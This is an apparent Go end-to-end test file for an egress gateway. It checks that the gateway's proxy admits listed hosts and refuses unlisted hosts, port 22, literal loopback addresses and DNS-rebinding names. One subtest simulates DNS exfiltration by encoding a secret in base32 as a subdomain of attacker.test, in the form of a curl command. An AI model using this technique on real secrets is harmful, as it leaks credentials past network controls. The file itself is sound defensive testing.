//go:build linux

package e2e

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base32"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	mdns "github.com/miekg/dns"

	"github.com/sluice-gw/sluice/sandboxd/wire"
	"github.com/sluice-gw/sluice/test/internal/casebook"
	"github.com/sluice-gw/sluice/test/internal/gwenv"
)

// egressIP is the "public" address of the test's upstreams. It is assigned
// to the namespace's own loopback device: the namespace has no other
// interface, so a packet to it never leaves the namespace. The guard
// classifies it as public, which is what raw egress needs to get through.
const egressIP = "11.0.0.1"

// egressWorld is a namespace with an HTTP and a TLS upstream on egressIP,
// a miekg/dns resolver on the namespace loopback, and a gateway whose
// agent-a may reach pkg.test and rebind.test (which resolves to loopback).
type egressWorld struct {
	e        *gwenv.Env
	g        *gwenv.Gateway
	ca       *x509.CertPool
	httpConn atomic.Int64 // connections accepted by the upstreams
	tlsConn  atomic.Int64
	dnsQ     atomic.Int64
	loopConn atomic.Int64  // connections to 127.0.0.1:443, where nothing may arrive
	flips    atomic.Int64  // A questions for flip.test
	release  chan struct{} // lets /stream send its second event
}

func newEgressWorld(t testing.TB) *egressWorld {
	t.Helper()
	e := newEnv(t)
	w := &egressWorld{e: e, release: make(chan struct{}, 4)}
	e.NS.AddAddr(t, egressIP+"/32")
	cert, _, pool := gwenv.UpstreamPKI(t, "pkg.test", "flip.test")
	w.ca = pool
	hl, tl, ll := e.NS.Listen(t, egressIP+":80"), e.NS.Listen(t, egressIP+":443"), e.NS.Listen(t, "127.0.0.1:443")
	hello := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/stream" {
			serveStream(rw, w.release)
			return
		}
		if r.Header.Get("Proxy-Authorization") != "" || r.Header.Get("Proxy-Connection") != "" {
			http.Error(rw, "proxy header forwarded", http.StatusTeapot)
			return
		}
		fmt.Fprintf(rw, "hello from %s %s", r.Host, r.URL.Path)
	})
	hs := &http.Server{Handler: hello, ReadHeaderTimeout: 5 * time.Second}
	ts := &http.Server{Handler: hello, ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = hs.Serve(gwenv.Counting(hl, &w.httpConn)) }()
	go func() {
		_ = ts.Serve(tls.NewListener(gwenv.Counting(tl, &w.tlsConn), &tls.Config{Certificates: []tls.Certificate{cert}}))
	}()
	ls := &http.Server{Handler: hello, ReadHeaderTimeout: 5 * time.Second}
	go func() {
		_ = ls.Serve(tls.NewListener(gwenv.Counting(ll, &w.loopConn), &tls.Config{Certificates: []tls.Certificate{cert}}))
	}()
	table := map[string]string{"pkg.test": egressIP, "evil.test": egressIP, "rebind.test": "127.0.0.1"}
	e.NS.ServeDNS(t, func(rw mdns.ResponseWriter, q *mdns.Msg) {
		w.dnsQ.Add(1)
		if q.Question[0].Name == "flip.test." && q.Question[0].Qtype == mdns.TypeA {
			// TTL 0, public first, then loopback: DNS rebinding.
			ip := egressIP
			if w.flips.Add(1) > 1 {
				ip = "127.0.0.1"
			}
			_ = rw.WriteMsg(gwenv.DNSReply(q, map[string]string{"flip.test": ip}, 0))
			return
		}
		_ = rw.WriteMsg(gwenv.DNSReply(q, table, 0))
	})
	t.Cleanup(func() { _ = hs.Close(); _ = ts.Close(); _ = ls.Close() })

	d := e.CoreConfig("egress")
	d["agents"] = []map[string]any{{"name": "agent-a", "connectors": []string{}, "egress": []string{"pkg.test", "rebind.test", "flip.test"}}}
	d["egress"] = map[string]any{"max_tunnels_per_caller": 4}
	d["dns"] = map[string]any{"upstreams": []string{gwenv.DNSAddr}}
	w.g = e.Start(d, e.Write(d))
	return w
}

// proxyClient uses the gateway as its HTTP proxy over the sandbox socket.
func (w *egressWorld) proxyClient(t testing.TB, id wire.Identity) *http.Client {
	if err := id.Validate(); err != nil {
		t.Fatal(err)
	}
	proxyURL, _ := url.Parse("http://sluice-proxy")
	return &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{
		Proxy:             http.ProxyURL(proxyURL),
		DisableKeepAlives: true,
		TLSClientConfig:   &tls.Config{RootCAs: w.ca},
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return wire.Dial(ctx, w.g.Sock, id)
		},
	}}
}

// rawConnect sends CONNECT target and returns the status line's code and
// the Proxy-Status header.
func (w *egressWorld) rawConnect(t testing.TB, target string) (int, string) {
	t.Helper()
	c, err := w.g.Dial(agentA)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("CONNECT %s: %v", target, err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, resp.Header.Get("Proxy-Status")
}

// TestEgressThroughTheGateway: an allowed host works through the proxy,
// in plain HTTP and over CONNECT with a real TLS client verifying the
// upstream's certificate; an unlisted host, an internal answer and a port
// outside the list are refused with no connection to any upstream.
func TestEgressThroughTheGateway(t *testing.T) {
	requireHost(t)
	w := newEgressWorld(t)
	c := w.proxyClient(t, agentA)

	t.Run("allowed host, plain HTTP", func(t *testing.T) {
		resp, err := c.Get("http://pkg.test/simple/")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || string(b) != "hello from pkg.test /simple/" {
			t.Fatalf("got %d %q", resp.StatusCode, b)
		}
	})
	t.Run("allowed host, CONNECT and TLS verified with the test CA", func(t *testing.T) {
		resp, err := c.Get("https://pkg.test/files/x.whl")
		if err != nil {
			t.Fatalf("%v\n%s", err, w.g.Stderr())
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || string(b) != "hello from pkg.test /files/x.whl" || resp.TLS == nil {
			t.Fatalf("got %d %q", resp.StatusCode, b)
		}
		if w.tlsConn.Load() != 1 {
			t.Errorf("TLS upstream accepted %d connections, want 1", w.tlsConn.Load())
		}
	})
	t.Run("audit names the host and the address dialled", func(t *testing.T) {
		// The tunnel's result is written when both sides have closed.
		w.g.For(t).AwaitAuditFields("result", map[string]any{"kind": "connect", "dest_host": "pkg.test", "resolved_ip": egressIP})
	})

	t.Run("a streamed reply reaches the client as it is sent", func(t *testing.T) {
		expectStreamed(t, c, "http://pkg.test/stream", w.release)
	})
	before := w.httpConn.Load() + w.tlsConn.Load()
	t.Run("unlisted host is refused", func(t *testing.T) {
		cb := casebook.Expect(t, "C8", "GET http://evil.test/ (not on the agent's egress list) through the sandbox proxy",
			"403 egress_denied with Proxy-Status http_request_denied, and no DNS query (policy before resolution)")
		q := w.dnsQ.Load()
		resp, err := c.Get("http://evil.test/")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		cb.Observef("%d %q, DNS queries +%d", resp.StatusCode, resp.Header.Get("Proxy-Status"), w.dnsQ.Load()-q)
		if resp.StatusCode != 403 || !strings.Contains(string(b), `"egress_denied"`) ||
			resp.Header.Get("Proxy-Status") != "sluice; error=http_request_denied" {
			t.Fatalf("got %d %s %q", resp.StatusCode, b, resp.Header.Get("Proxy-Status"))
		}
		if w.dnsQ.Load() != q {
			t.Error("an unlisted host was resolved")
		}
	})
	t.Run("unlisted host over CONNECT is refused", func(t *testing.T) {
		if code, ps := w.rawConnect(t, "evil.test:443"); code != 403 || ps != "sluice; error=http_request_denied" {
			t.Fatalf("got %d %q", code, ps)
		}
	})
	t.Run("a secret in the host name of an https:// URL is never looked up", func(t *testing.T) {
		// What curl https://<base32 of a secret>.attacker.test/ sends.
		label := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(w.e.Secret)), "="))
		host := label[:min(len(label), 63)] + ".attacker.test"
		cb := casebook.Expect(t, "C8", "CONNECT <base32 of the secret>.attacker.test:443 (curl https://… through the sandbox proxy; not on the egress list)",
			"403 with Proxy-Status http_request_denied, and no DNS query (policy before resolution)")
		q := w.dnsQ.Load()
		code, ps := w.rawConnect(t, host+":443")
		cb.Observef("%d %q, DNS queries +%d", code, ps, w.dnsQ.Load()-q)
		if code != 403 || ps != "sluice; error=http_request_denied" {
			t.Fatalf("got %d %q", code, ps)
		}
		if w.dnsQ.Load() != q {
			t.Error("the exfiltration name was resolved")
		}
	})
	t.Run("CONNECT to port 22 is refused", func(t *testing.T) {
		cb := casebook.Expect(t, "C5", "CONNECT pkg.test:22 (allowed host, port outside connect_ports)", "403, no upstream connection")
		code, ps := w.rawConnect(t, "pkg.test:22")
		cb.Observef("%d %q", code, ps)
		if code != 403 {
			t.Fatalf("got %d", code)
		}
	})
	t.Run("allowed name answering loopback is refused (rebinding)", func(t *testing.T) {
		cb := casebook.Expect(t, "C3", "CONNECT rebind.test:443, an allowed name whose DNS answer is 127.0.0.1",
			"403 with Proxy-Status destination_ip_prohibited (refused after resolution)")
		code, ps := w.rawConnect(t, "rebind.test:443")
		cb.Observef("%d %q", code, ps)
		if code != 403 || ps != "sluice; error=destination_ip_prohibited" {
			t.Fatalf("got %d %q", code, ps)
		}
	})
	t.Run("C1 literal addresses are refused", func(t *testing.T) {
		cb := casebook.Expect(t, "C2", "CONNECT to literal 127.0.0.1:443, [::1]:443, 2130706433:443 and the allowed host's own IP",
			"403 for each")
		var got []string
		defer func() { cb.Observe(strings.Join(got, ", ")) }()
		for _, target := range []string{"127.0.0.1:443", "[::1]:443", "2130706433:443", egressIP + ":443"} {
			code, _ := w.rawConnect(t, target)
			got = append(got, fmt.Sprintf("%s %d", target, code))
			if code != 403 {
				t.Errorf("CONNECT %s: %d", target, code)
			}
		}
	})
	if after := w.httpConn.Load() + w.tlsConn.Load(); after != before {
		t.Errorf("refused requests opened %d upstream connections", after-before)
	}

	// THREATS C5: a TTL-0 name that answers a public address, then
	// loopback. The tunnel dials exactly the address classified; the next
	// one is refused; nothing ever reaches 127.0.0.1:443.
	t.Run("TTL-0 rebinding", func(t *testing.T) {
		tlsBefore := w.tlsConn.Load()
		cb := casebook.Expect(t, "C4", "flip.test answers a public address with TTL 0, then 127.0.0.1",
			"first request reaches the public upstream; the second resolves again and fails; 0 connections to 127.0.0.1:443")
		var second error
		defer func() {
			cb.Observef("public upstream TLS connections +%d, second request error: %v, resolutions %d, loopback connections %d",
				w.tlsConn.Load()-tlsBefore, second, w.flips.Load(), w.loopConn.Load())
		}()
		resp, err := c.Get("https://flip.test/first")
		if err != nil {
			t.Fatalf("first request: %v", err)
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if w.tlsConn.Load() != tlsBefore+1 {
			t.Errorf("first request did not reach the public upstream")
		}
		_, second = c.Get("https://flip.test/second")
		if second == nil {
			t.Error("second request went through after the name flipped to loopback")
		}
		if w.flips.Load() < 2 {
			t.Errorf("flip.test was asked %d times: the second request did not resolve again", w.flips.Load())
		}
		if n := w.loopConn.Load(); n != 0 {
			t.Errorf("%d connections reached 127.0.0.1:443", n)
		}
	})
}
